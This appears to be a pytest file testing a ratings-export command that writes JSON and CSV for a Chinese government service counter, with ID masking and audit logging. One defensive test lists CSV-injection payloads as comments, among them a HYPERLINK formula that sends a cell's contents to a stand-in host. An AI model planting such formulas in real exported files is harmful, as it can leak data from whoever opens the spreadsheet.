"""``counter ratings export``: JSON and CSV, in the codings the site chose (or refused until it has), by the day of
rating."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest
from sqlalchemy import select
from sqlalchemy.orm import Session, sessionmaker

from counter.access.roles import GRANTS, Permission, Role
from counter.actions.admin.calendar import office_calendar
from counter.actions.cases.reach import noted_reads
from counter.actions.ratings.record import ratings_shown_for_export, record_rating, send_to_pad
from counter.cli.main import main
from counter.db import models, sealing
from counter.db.platform_store import PLATFORM_KEY
from counter.db.settings_store import put_setting
from counter.host.keys.data_key import sm4_key_path
from counter.host.machine.paths import site_key_path
from counter.outbox.secret_shown import stored_json
from counter.parties.masking import mask_id
from counter.platform.settings import PlatformSettings
from counter.ratings.choice import RatingChoice
from counter.ratings.export import FIELDS
from counter.ratings.levels import Level
from counter.words.at_command_line import fault_text
from tests.codings import CHOSEN, OTHERS
from tests.db.test_personal_sealing import damaged, put_back
from tests.ratings.conftest import DESK, TODAY, Clock, account_desk


def choose(sessions: sessionmaker[Session], codings: dict[str, str]) -> None:
    """The integrator's choice of the code lists, as ``counter platform settings --coding`` stores it."""
    with sessions.begin() as session:
        put_setting(session, PLATFORM_KEY, stored_json(PlatformSettings(codings=codings)))


@pytest.fixture
def rated_db(sessions: sessionmaker[Session], demo_cases: dict[str, str], clock: Clock, db_path: Path) -> str:
    choose(sessions, OTHERS)
    for label, choice in (
        ("受理", RatingChoice(Level.VERY_SATISFIED)),
        ("撤回申请", RatingChoice(Level.DISSATISFIED, ("流程太复杂",), "要求到另一个部门")),
    ):
        with sessions.begin() as session:
            pad = send_to_pad(session, demo_cases[label], DESK, clock())
            record_rating(session, pad.request_id, choice, DESK, clock(), office_calendar(session))
        clock.advance(minutes=5)
    return f"sqlite:///{db_path}"


def export(capsys: pytest.CaptureFixture[str], *args: str) -> tuple[int, str, str]:
    code = main(["ratings", "export", *args])
    out, err = capsys.readouterr()
    return code, out, err


def test_json_in_the_sites_codings_and_the_level_chosen_for_one_file(
    capsys: pytest.CaptureFixture[str], rated_db: str
) -> None:
    code, out, err = export(capsys, "--from", "2026-11-20", "--to", "2026-11-20", "--format", "json", "--db", rated_db)
    assert code == 0
    gbt = json.loads(out)
    used = "level=gbt39046;channel=gbt39046_names;round=count;applicant_kind=gbt39046"
    assert [(r["satisfaction"], r["level"], r["coding"]) for r in gbt] == [
        ("very_satisfied", "1", used),
        ("dissatisfied", "4", used),
    ]
    assert gbt[0]["channel"] == "政务大厅其他终端"  # the desk's own pad window, not a 评价器
    assert "共导出 2 条评价" in err
    assert used in err  # the coding is named where the clerk's supervisor reads it too
    code, out, err = export(
        capsys, "--from", "2026-11-20", "--to", "2026-11-20", "--format", "json", "--coding", "hcp",
        "--db", rated_db,
    )  # fmt: skip
    assert code == 0
    interface = json.loads(out)
    assert [(r["satisfaction"], r["level"]) for r in interface] == [("very_satisfied", "5"), ("dissatisfied", "2")]
    assert interface[0]["coding"].startswith("level=hcp;")
    assert interface[1]["reasons"] == ["流程太复杂"]
    assert interface[1]["region"] == "152201"


def test_nothing_is_exported_until_the_level_and_the_channel_are_chosen(
    capsys: pytest.CaptureFixture[str], rated_db: str, sessions: sessionmaker[Session]
) -> None:
    choose(sessions, {})
    args = ("--from", "2026-11-20", "--to", "2026-11-20", "--format", "json", "--db", rated_db)
    code, out, err = export(capsys, *args)
    assert code != 0
    assert out == ""
    assert "满意度代码" in err
    assert "评价渠道" in err
    code, out, err = export(capsys, *args, "--coding", "gbt39046")  # the level for this file; the channel still not
    assert code != 0
    assert "评价渠道" in err
    assert "满意度代码" not in err
    choose(sessions, CHOSEN)
    code, out, _ = export(capsys, *args)
    assert code == 0
    assert {r["channel"] for r in json.loads(out)} == {"5"}  # the second screen: 政务大厅其他终端 in the interfaces


def test_csv_to_a_file_opens_in_excel(capsys: pytest.CaptureFixture[str], rated_db: str, tmp_path: Path) -> None:
    out_file = tmp_path / "ratings.csv"
    code, out, _ = export(
        capsys, "--from", "2026-11-01", "--to", "2026-11-30", "--format", "csv", "--coding", "hcp",
        "--out", str(out_file), "--db", rated_db,
    )  # fmt: skip
    assert code == 0
    assert out == ""
    raw = out_file.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")  # the BOM Excel and WPS need to read UTF-8
    rows = list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"))))
    assert tuple(rows[0]) == FIELDS
    assert [r["level"] for r in rows] == ["5", "2"]
    assert {r["coding"].split(";")[0] for r in rows} == {"level=hcp"}


@pytest.mark.parametrize(("old", "new"), [("best_first", "gbt39046"), ("interface", "hcp"), ("worst_first", "hcp")])
def test_the_old_coding_names_still_work(capsys: pytest.CaptureFixture[str], rated_db: str, old: str, new: str) -> None:
    """A script written against the old names gets the same numbers, labelled with the coding's name."""
    args = ("--from", "2026-11-20", "--to", "2026-11-20", "--format", "json", "--db", rated_db)
    code, old_out, _ = export(capsys, *args, "--coding", old)
    assert code == 0
    code, new_out, _ = export(capsys, *args, "--coding", new)
    assert code == 0
    assert json.loads(old_out) == json.loads(new_out)
    assert {r["coding"].split(";")[0] for r in json.loads(old_out)} == {f"level={new}"}


def test_csv_to_the_screen_and_an_empty_period(capsys: pytest.CaptureFixture[str], rated_db: str) -> None:
    code, out, _ = export(capsys, "--from", "2026-11-20", "--to", "2026-11-20", "--format", "csv", "--db", rated_db)
    assert code == 0
    assert [r["level"] for r in csv.DictReader(io.StringIO(out))] == ["1", "4"]
    code, out, err = export(capsys, "--from", "2026-11-21", "--to", "2026-11-30", "--format", "json", "--db", rated_db)
    assert code == 0
    assert json.loads(out) == []
    assert "共导出 0 条评价" in err


@pytest.mark.parametrize(
    "args",
    [
        ("--from", "2026-11-30", "--to", "2026-11-01", "--format", "json"),
        ("--from", "30.11.2026", "--to", "2026-12-01", "--format", "json"),
        ("--from", "2026-11-01", "--to", "2026-11-30", "--format", "xml"),
        ("--from", "2026-11-01", "--to", "2026-11-30", "--format", "csv", "--coding", "stars"),
    ],
)
def test_misuse_exits_2(capsys: pytest.CaptureFixture[str], rated_db: str, args: tuple[str, ...]) -> None:
    code, out, err = export(capsys, *args, "--db", rated_db)
    assert code == 2
    assert out == ""
    assert err.strip()


@pytest.mark.parametrize("comment", ['=HYPERLINK("http://x.example/?"&A1,"点此")', "+1+2", "-2+3", "@SUM(A1)"])
def test_a_formula_in_a_comment_is_written_as_text(
    capsys: pytest.CaptureFixture[str],
    sessions: sessionmaker[Session],
    demo_cases: dict[str, str],
    clock: Clock,
    db_path: Path,
    comment: str,
) -> None:
    """A comment a spreadsheet would run (OWASP CSV injection) reaches the file behind an apostrophe; JSON keeps it."""
    choose(sessions, CHOSEN)
    with sessions.begin() as session:
        pad = send_to_pad(session, demo_cases["受理"], DESK, clock())
        choice = RatingChoice(Level.DISSATISFIED, ("流程太复杂",), comment)
        record_rating(session, pad.request_id, choice, DESK, clock(), office_calendar(session))
    args = ("--from", "2026-11-20", "--to", "2026-11-20", "--db", f"sqlite:///{db_path}")
    code, out, _ = export(capsys, *args, "--format", "csv")
    assert code == 0
    (row,) = csv.DictReader(io.StringIO(out))
    assert row["comment"] == "'" + comment
    assert not any(value.startswith(("=", "+", "-", "@", "\t", "\r")) for value in row.values())
    code, out, _ = export(capsys, *args, "--format", "json")
    assert json.loads(out)[0]["comment"] == comment  # the record itself is not changed


def test_each_raters_id_number_exported_is_recorded_as_read(capsys: pytest.CaptureFixture[str], rated_db: str) -> None:
    """The export gives the raters' ID numbers whole (the region's record asks for them): each is a read of a person,
    listed for the supervisor as any other."""
    code, out, _ = export(capsys, "--from", "2026-11-20", "--to", "2026-11-20", "--format", "json", "--db", rated_db)
    assert code == 0
    exported = {(r["case_no"], r["rater_id_no"]) for r in json.loads(out) if r["rater_id_no"]}
    assert exported
    assert main(["audit", "reads", "--json", "--db", rated_db]) == 0
    out, _ = capsys.readouterr()
    reads = json.loads(out)
    assert {(r["case_no"], r["operation"]) for r in reads} == {(c, "ratings.export_records") for c, _ in exported}
    assert all(id_no not in out for _, id_no in exported)


def test_a_file_that_cannot_be_written_is_named_with_its_fault_in_chinese(
    capsys: pytest.CaptureFixture[str], rated_db: str, sessions: sessionmaker[Session], tmp_path: Path
) -> None:
    """Before, the system's English words followed the path (``No such file or directory``)."""
    out_file = tmp_path / "usb" / "ratings.json"  # a stick not in
    code, out, err = export(
        capsys, "--from", "2026-11-01", "--to", "2026-11-30", "--format", "json", "--coding", "hcp",
        "--out", str(out_file), "--db", rated_db,
    )  # fmt: skip
    assert (code, out, err) == (1, "", f"无法写入 {out_file}：找不到这个文件或文件夹\n")
    with sessions() as session:  # nothing written, no export recorded
        assert session.scalars(select(models.AuditEntry).where(models.AuditEntry.subject == "ratings")).all() == []


def test_an_account_that_may_not_see_a_person_whole_exports_the_raters_masked_and_reads_none(
    sessions: sessionmaker[Session], rated_db: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A roles table whose supervisor sees figures but no one's number whole: her export masks each rater's ID
    number as paper does, and no read of a person is recorded, none having been given."""
    monkeypatch.setitem(GRANTS, Role.SUPERVISOR, GRANTS[Role.SUPERVISOR] - {Permission.SEE_FULL_ID})
    baoyin = account_desk(sessions, "baoyin", "宝音", frozenset({Role.SUPERVISOR}))
    with sessions.begin() as session:
        records = ratings_shown_for_export(session, TODAY, TODAY, "ratings.export_records", desk=baoyin)
        noted = noted_reads(session)  # what the service records with the answer
    given = [r.rater_id_no for r in records if r.rater_id_no]
    assert given
    assert all(id_no == mask_id(id_no) and "*" in id_no for id_no in given)
    assert noted == ()


def test_an_export_asked_without_a_desk_records_its_reads_as_this_machines(
    sessions: sessionmaker[Session], rated_db: str
) -> None:
    """Asked with no desk (the machine's own), the ID numbers given whole are recorded as read, as at any desk: before,
    they were given whole with no record of it."""
    with sessions.begin() as session:
        records = ratings_shown_for_export(session, TODAY, TODAY, "ratings.export_records")
        noted = noted_reads(session)  # what the service records with the answer
    given = {(r.case_no, r.rater_id_no) for r in records if r.rater_id_no}
    assert given
    assert all("*" not in id_no for _, id_no in given)
    assert sorted((r.case_no, r.operation) for r in noted) == sorted(
        (case_no, "ratings.export_records") for case_no, _ in given
    )


def test_a_mapping_the_site_names_that_this_version_does_not_ship_exports_nothing(
    capsys: pytest.CaptureFixture[str], rated_db: str, sessions: sessionmaker[Session]
) -> None:
    """Settings stored by a version that shipped a mapping of another name: said, not a traceback."""
    with sessions.begin() as session:
        put_setting(session, PLATFORM_KEY, stored_json(PlatformSettings(mapping="gone", codings=OTHERS)))
    code, out, err = export(capsys, "--from", "2026-11-01", "--to", "2026-11-30", "--format", "json", "--db", rated_db)
    assert (code, out, err) == (1, "", "没有这个名称的数据项对照文件，或文件无法使用\n")
    with sessions() as session:
        assert session.scalars(select(models.AuditEntry).where(models.AuditEntry.subject == "ratings")).all() == []


@pytest.mark.parametrize("damage", ["cut short", "missing"])
def test_an_export_whose_raters_numbers_the_key_cannot_open_is_refused_not_written_as_placeholders(
    capsys: pytest.CaptureFixture[str], rated_db: str, sessions: sessionmaker[Session], damage: str
) -> None:
    """The site's data key damaged after the ratings: the raters' ID numbers read as （已加密）, and the export wrote
    them so (masked or whole) as the raters' numbers.  It is refused in the words of a damaged key, nothing written
    and no export recorded; with the key put back from its copy it goes."""
    sealing.finish_pending(sessions.kw["bind"])  # every value sealed under this machine's key, none left in clear
    with sessions() as session:
        stored = session.scalars(select(models.Rating.rater_id_no)).all()
    assert any(stored)  # raters with numbers
    key_file = sm4_key_path(site_key_path(), 1)
    kept = key_file.read_bytes()
    damaged(key_file, damage)
    asked = ("--from", "2026-11-20", "--to", "2026-11-20", "--format", "csv", "--db", rated_db)
    assert export(capsys, *asked) == (1, "", fault_text("data_key") + "\n")
    with sessions() as session:
        exported = select(models.AuditEntry).where(models.AuditEntry.action == "exported")
        assert session.scalars(exported).all() == []
    put_back(key_file, kept)
    code, out, _err = export(capsys, *asked)
    assert code == 0
    assert "（已加密）" not in out
    assert all(number in out for number in stored if number)


def test_a_rating_whose_channel_the_chosen_coding_has_no_code_for_is_refused_by_name(
    capsys: pytest.CaptureFixture[str], sessions: sessionmaker[Session], demo_cases: dict[str, str], db_path: Path
) -> None:
    """A 书面评价 keyed in at a township desk, under the 评价渠道 coding hcp, which has no code for it: nothing is
    exported (never as another channel's code), and the refusal names the list, the coding and the channel in
    words."""
    db = f"sqlite:///{db_path}"
    choose(sessions, CHOSEN)
    typed = ("--level", "satisfied", "--date", "2026-11-20", "--db", db)
    assert main(["ratings", "key-in", demo_cases["受理"], *typed]) == 0
    capsys.readouterr()
    out_file = db_path.parent / "ratings.json"
    code, out, err = export(capsys, "--from", "2026-11-01", "--to", "2026-11-30", "--format", "json", "--out",
                            str(out_file), "--db", db)  # fmt: skip
    assert (code, out) == (1, "")
    assert err.strip() == "代码表“评价渠道”的编码 hcp 没有“书面评价”的代码，不能导出"
    assert not out_file.exists()
